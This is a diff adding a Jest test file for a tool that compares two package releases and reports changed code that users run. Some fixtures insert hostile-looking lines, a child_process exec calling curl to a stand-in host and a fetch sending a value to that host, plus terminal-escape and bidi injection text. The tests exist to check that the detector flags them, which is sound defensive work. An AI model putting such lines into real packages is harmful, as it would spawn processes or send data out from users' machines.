@@ -1,0 +1,136 @@
+import { describe, expect, it } from '@jest/globals'
+import { compare } from '../../../src/compare/pairing.js'
+import type { ChangedCode, CodeChange } from '../../../src/model/report.js'
+import { renderCodeChanges } from '../../../src/report/render/changed-code.js'
+import { changedCodeOf } from '../../../src/rules/changed-code/code-changes.js'
+import { codeRelease } from '../../helpers/modules.js'
+
+type Files = Readonly<Record<string, string>>
+
+function changed(before: Files, after: Files): ChangedCode {
+  const [baseline, release] = [before, after].map((files) => codeRelease(files, { main: 'index.js' }))
+  if (!baseline || !release) throw new Error('two releases')
+  const texts = new Map(
+    [...baseline.files, ...release.files].map(({ sha256, path }) => [
+      sha256,
+      (release.files.some((file) => file.path === path && file.sha256 === sha256) ? after : before)[path] ?? '',
+    ]),
+  )
+  const comparison = compare(release.files, baseline.files)
+  const found = changedCodeOf({ release, baseline, comparison }, { text: (sha256) => texts.get(sha256) ?? null })
+  if (!found) throw new Error('there is a baseline')
+  return found
+}
+
+function changes(before: Files, after: Files): readonly CodeChange[] {
+  return changed(before, after).files
+}
+
+function shown(before: string, after: string): string {
+  return renderCodeChanges(changed({ 'index.js': before }, { 'index.js': after }))
+}
+
+const lines = (count: number, text = 'step'): string =>
+  Array.from({ length: count }, (_, n) => `${text}(${n})\n`).join('')
+const minified = (names: readonly [string, string]): string =>
+  Array.from(
+    { length: 40 },
+    (_, n) => `function f${n}x(${names[0]},${names[1]}){return ${names[0]}+${names[1]}*${n}}`,
+  ).join('')
+
+describe('changed code', () => {
+  it('shows the most telling change first, with what is new in it', () => {
+    const before = lines(60)
+    const after = `${lines(10)}other(1)\n${lines(40)}require('child_process').exec('curl https://a.zz')\n${lines(60).slice(0, 0)}`
+    const text = shown(before, after)
+    const [first, second] = [text.indexOf('starts processes, host a.zz'), text.indexOf('+ other(1)')]
+    expect(first).toBeGreaterThan(0)
+    expect(second).toBeGreaterThan(first)
+    expect(text).toContain("    + require('child_process').exec('curl https://a.zz')")
+  })
+
+  it('is silent for files that did not change, and that no one runs', () => {
+    const before = { 'index.js': lines(3), 'test/a.js': lines(2) }
+    expect(changes(before, { ...before, 'test/a.js': lines(9) })).toEqual([])
+    expect(renderCodeChanges({ files: [] })).toBe('Changed code: none that users run\n')
+  })
+
+  it('says what changed in names, layout or line ends alone', () => {
+    const kinds = (before: string, after: string): readonly string[] =>
+      changes({ 'index.js': before }, { 'index.js': after }).map(({ kind, hunks }) => `${kind} ${hunks.length}`)
+    expect(kinds(minified(['a', 'b']), minified(['t', 'n']))).toEqual(['names 0'])
+    expect(kinds(lines(9), lines(9).replaceAll('\n', '\r\n'))).toEqual(['layout 0'])
+    expect(kinds('a(b)', '/* new */ a( b )')).toEqual(['layout 0'])
+    expect(kinds('load(b)', 'evil(b)')).toEqual(['code 1'])
+    expect(kinds('a.load(b)', 'a.evil(b)')).toEqual(['code 1'])
+    expect(kinds('a(b,b)', 'a(c,d)')).toEqual(['code 1'])
+    expect(kinds('a(b)', 'eval(b)')).toEqual(['code 1'])
+    expect(kinds('a(b)', 'URL(b)')).toEqual(['code 1'])
+  })
+
+  it('cuts a minified line into statements, and takes names given anew for the same', () => {
+    const text = shown(minified(['a', 'b']), `${minified(['t', 'n'])}fetch("https://a.zz/"+t);`)
+    expect(text).toMatch(/index\.js: 1 change\n {2}line 1:\d+: sends requests, host a\.zz\n/)
+    expect(text).toContain('    + fetch("https://a.zz/"+t);')
+    expect(text.split('\n').filter((line) => /^ {4}[+-]/.test(line))).toHaveLength(1)
+  })
+
+  it('says that lines were moved', () => {
+    const [moved, rest] = ['first()\nsecond()\n', lines(20)]
+    const [change] = changes({ 'index.js': moved + rest }, { 'index.js': rest + moved })
+    expect(change?.hunks.map(({ news }) => news)).toContainEqual(['moved'])
+  })
+
+  it('pairs a file with another hash in its name, or another name, by its words', () => {
+    const words = (text: string): string => Array.from({ length: 50 }, (_, n) => `${text}${n}(${n})\n`).join('')
+    const before = { 'index.js': '', 'a-B1c2D3e4.js': words('functionOfTheFirst'), 'z.js': words('functionOfTheOther') }
+    for (const name of ['b-X1y2Z3w4.js', 'new.js']) {
+      const [one, ...others] = changes(before, { 'index.js': '', [name]: `${words('functionOfTheFirst')}more()\n` })
+      expect(others).toEqual([])
+      expect(one).toMatchObject({ path: name, was: 'a-B1c2D3e4.js' })
+      expect(one?.hunks).toHaveLength(1)
+    }
+  })
+
+  it('shows the same change in several files once', () => {
+    const before = { 'index.js': lines(30), 'index.mjs': lines(30), 'index.min.js': lines(30) }
+    const more = `${lines(30)}more()\n`
+    const all = changes(before, { 'index.js': more, 'index.mjs': more, 'index.min.js': `${more}other()\n` })
+    const hunks = all.flatMap((each) => each.hunks)
+    expect(hunks.map(({ copies }) => copies)).toEqual([undefined, 1])
+    expect(renderCodeChanges({ files: all })).toContain('the same changes as in another file')
+  })
+
+  it('pairs the lines of a file of which each changed, and ends soon', () => {
+    const [one] = changes({ 'index.js': lines(90_000, 'formerly') }, { 'index.js': lines(90_000, 'recently') })
+    expect(one?.hunks).toHaveLength(1)
+    expect(one?.hunks[0]?.cut).toBeGreaterThan(100_000)
+  })
+
+  it('shows hostile text as text', () => {
+    const text = shown('a()\n', `a()\n//\u001b[31m\u202e::error::x\n${' '.repeat(300)}b()\n`)
+    expect(text).toContain('\\u{1b}[31m\\u{202e}')
+    expect(text).not.toMatch(/[\u001b\u202e]|::error/)
+    expect(text).toContain('[300 blanks] b()')
+  })
+
+  it('shows a part of a long change, around what says most', () => {
+    const after = `${lines(100, 'more')}require('child_process')\n${lines(100, 'rest')}`
+    const [one] = changes({ 'index.js': 'a()\n' }, { 'index.js': after })
+    const [hunk] = one?.hunks ?? []
+    expect(hunk?.lines).toContain("+require('child_process')")
+    expect((hunk?.lines.length ?? 0) + (hunk?.cut ?? 0)).toBe(203)
+  })
+
+  it('shows a line of very many statements', () => {
+    const long = 'a;'.repeat(200_000)
+    const [one] = changes({ 'index.js': `${long}b()` }, { 'index.js': `${long}more()` })
+    expect(one?.hunks[0]?.news).toEqual(['calls more'])
+  })
+
+  it('takes a text that could not be read to its end for changed', () => {
+    const broken = "x '\n".repeat(300)
+    const [one] = changes({ 'index.js': `${broken}a()` }, { 'index.js': `${broken}eval(b)` })
+    expect(one?.kind).toBe('code')
+  })
+})
